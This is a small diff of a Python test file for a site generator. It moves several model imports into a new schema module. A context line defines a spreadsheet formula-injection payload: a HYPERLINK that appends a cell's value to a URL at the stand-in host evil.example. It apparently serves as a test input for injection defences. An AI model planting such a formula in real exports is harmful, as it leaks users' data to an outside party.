@@ -12,7 +12,8 @@ import pytest
 from bs4 import BeautifulSoup
 
 from generator.build.run import BuildConfig, build
-from generator.model.snapshot import PRICE_MAX, RAO_MAX, Identity, Subnet, write_snapshot
+from generator.model.schema import PRICE_MAX, RAO_MAX, Identity, Subnet
+from generator.model.snapshot import write_snapshot
 from tests.conftest import REPO, TRADING, make_doc, tiny_neuron_table
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
